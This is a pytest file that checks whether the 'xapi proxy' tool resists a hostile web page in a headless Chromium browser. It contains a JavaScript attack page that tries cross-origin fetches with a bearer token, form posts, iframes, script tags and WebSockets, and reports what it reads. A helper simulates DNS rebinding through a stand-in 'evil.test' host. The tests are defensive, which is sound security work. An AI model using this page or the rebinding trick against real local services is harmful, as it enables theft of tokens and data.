"""A web page, in a real browser, gets nothing through `xapi proxy`: not by fetch, a form or DNS rebinding."""

import json
import os
import shutil
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import Queue

import pytest

from tests.commands.api import response
from tests.proxy.running import proxy
from tests.support.program import Xapi
from tests.support.servers import Peer, Server, Step, request, send
from xapi_cli.sandbox import MASTER, Sandbox

ARGUMENTS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
)  # fmt: skip

# What a hostile page tries at `target`. It reports each text that it can read.
PAGE = """<!doctype html>
<iframe name="frame"></iframe>
<form method="post" target="frame" enctype="text/plain"><input name="a" value="b"></form>
<script>
const target = "TARGET", report = "REPORT", found = []
const attempt = async (name, action) => {
  try { found.push([name, await action()]) } catch (error) { found.push([name, null]) }
}
const text = options => async () => (await fetch(target + "/x-api/me", options)).text()
const loaded = element => new Promise(resolve => { element.onload = element.onerror = resolve })
const framed = async send => {
  const frame = document.querySelector("iframe"), ended = loaded(frame)
  send(frame)
  await ended
  return frame.contentDocument.body.innerText
}
const attack = async () => {
  await attempt("fetch", text({}))
  await attempt("fetch with the key", text({ headers: { Authorization: "Bearer KEY" } }))
  await attempt("fetch with credentials", text({ credentials: "include" }))
  await attempt("fetch without cors", text({ mode: "no-cors" }))
  await attempt("post without cors", text({ method: "POST", body: "x", mode: "no-cors" }))
  await attempt("form", () => framed(() => {
    const form = document.forms[0]
    form.action = target + "/x-api/echo"
    form.submit()
  }))
  await attempt("frame", () => framed(frame => { frame.src = target + "/x-api/me" }))
  await attempt("script", async () => {
    const element = document.createElement("script"), ended = loaded(element)
    element.src = target + "/x-api/me"
    document.body.append(element)
    await ended
  })
  await attempt("websocket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket(target.replace("http", "ws") + "/x-api/me")
    socket.onopen = () => resolve("open")
    socket.onerror = reject
  }))
  await fetch(report, { method: "POST", body: JSON.stringify(found), mode: "no-cors" })
}
attack()
</script>
"""


class _Page(BaseHTTPRequestHandler):
    """Serves the page, and takes its report."""

    page: str
    reports: "Queue[dict[str, str | None]]"

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        if self.path == "/":
            self.wfile.write(self.page.encode())

    def do_POST(self) -> None:
        self.reports.put(dict(json.loads(self.rfile.read(int(self.headers["Content-Length"])))))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        """Print nothing."""


def content(target: str, key: str, report: str = "/report") -> str:
    """Return the page that attacks *target*, and knows *key*, and sends the result to *report*."""
    return PAGE.replace("TARGET", target).replace("KEY", key).replace("REPORT", report)


@contextmanager
def page(target: str, key: str) -> Iterator[tuple[int, "Queue[dict[str, str | None]]"]]:
    """Serve a page that attacks *target*, and knows *key*; yield the port, and what it reports."""
    reports: Queue[dict[str, str | None]] = Queue()
    variables = {"page": content(target, key), "reports": reports}
    with ThreadingHTTPServer(("127.0.0.1", 0), type("Page", (_Page,), variables)) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.02,))
        thread.start()
        yield server.server_port, reports
        server.shutdown()
        thread.join()


@contextmanager
def browser(url: str, directory: Path, *args: str) -> Iterator[None]:
    """Open *url* in a browser with a new profile in *directory*."""
    program = shutil.which("chromium")
    if program is None:
        pytest.skip("chromium is not installed")
    command = [program, *ARGUMENTS, f"--user-data-dir={directory}", "--remote-debugging-port=0", *args, url]
    with subprocess.Popen(
        command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
    ) as process:
        yield
        os.killpg(process.pid, signal.SIGKILL)


def rebound(page: bytes, port: int) -> Step:
    """Respond with *page* to the first request of a browser, and forward all others to *port*.

    For the browser, it is all the same origin, as after a change of the address in the DNS.
    """

    def step(peer: Peer) -> None:
        peer.read_request()
        if peer.received.startswith(b"GET / "):
            peer.sock.sendall(page)
            return
        with socket.create_connection(("127.0.0.1", port), timeout=30) as connection:
            connection.sendall(bytes(peer.received).replace(b"\r\n", b"\r\nConnection: close\r\n", 1))
            while data := connection.recv(65_536):
                peer.sock.sendall(data)

    return step


SENT = {"GET /x-api/me", "POST /x-api/me", "POST /x-api/echo"}


def requests_of(server: Server) -> set[str]:
    return {each.partition(b" HTTP/")[0].decode() for each in server.received if not each.startswith(b"OPTIONS")}


@pytest.mark.slow
def test_a_page_of_another_origin_gets_nothing(xapi: Xapi, sandbox: Sandbox, tmp_path: Path) -> None:
    with proxy(xapi, sandbox.settings) as running:
        key = running.settings["XAPI_TOKEN"]
        with page(running.url, key) as (port, reports), browser(f"http://127.0.0.1:{port}/", tmp_path / "profile"):
            found = reports.get(timeout=60)

    assert len(found) == 9
    assert not any(found.values()), found
    assert sandbox.requests == 0


@pytest.mark.slow
def test_a_page_that_rebinds_its_name_gets_nothing(xapi: Xapi, sandbox: Sandbox, tmp_path: Path) -> None:
    script: list[Step] = []
    with (
        proxy(xapi, sandbox.settings) as running,
        Server(script) as server,
        page("", "") as (report, reports),
    ):
        own = running.address[1]
        text = content(f"http://evil.test:{own}", running.settings["XAPI_TOKEN"], f"http://127.0.0.1:{report}/report")
        script.append(rebound(response("200 OK", text.encode(), "Content-Type: text/html"), own))
        rule = f"--host-resolver-rules=MAP evil.test 127.0.0.1:{server.port}"
        with browser(f"http://evil.test:{own}/", tmp_path / "profile", rule):
            found = reports.get(timeout=60)
        sent = requests_of(server)

    assert json.loads(found["fetch with the key"] or "")["error"] == "host"
    assert json.loads(found["form"] or "")["error"] == "host"
    assert not any(MASTER.email in text for text in found.values() if text)
    assert sent >= SENT
    assert sandbox.requests == 0


@pytest.mark.slow
def test_without_the_proxy_the_same_page_sends_requests(tmp_path: Path) -> None:
    """So the tests above would fail if the proxy forwarded them."""
    reply = response("200 OK", b"{}", "Access-Control-Allow-Origin: *", "Access-Control-Allow-Headers: *")
    with (
        Server([request(), send(reply)]) as server,
        page(server.url, "key") as (port, reports),
        browser(f"http://127.0.0.1:{port}/", tmp_path / "profile"),
    ):
        found = reports.get(timeout=60)
        sent = requests_of(server)

    assert (found["fetch"], found["fetch with the key"]) == ("{}", "{}")
    assert sent >= SENT
